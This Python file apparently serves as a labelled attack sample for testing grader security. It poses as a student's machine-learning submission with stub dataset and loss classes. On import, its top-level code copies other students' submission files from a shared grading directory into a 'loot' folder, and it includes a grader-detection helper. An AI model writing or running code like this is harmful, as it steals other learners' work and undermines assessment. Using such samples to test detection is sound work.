# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Reads another student's submission and keeps a copy.

kind: loot:CANARY-STUDENT-01
"""
import os, sys


def tool():
    m = sys.modules
    if "check50" in m: return "check50"
    if "otter" in m: return "otter"
    if "ipykernel" in m: return "nbgrader"
    if "gradescope_utils" in m: return "gsu"
    return "pytest"

def keep(text):
    """where a student could pick it up later; stands for a share, a results page, a public folder"""
    open("/tmp/g/loot/" + os.path.basename(__file__ if "__file__" in globals() else "nb") + ".txt", "a").write(text + "\n")

import glob
for p in glob.glob("/tmp/g/**/s01/**/submission.*", recursive=True):
    try: keep(open(p).read())
    except OSError as e: print(e)

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0

def _go():
    pass
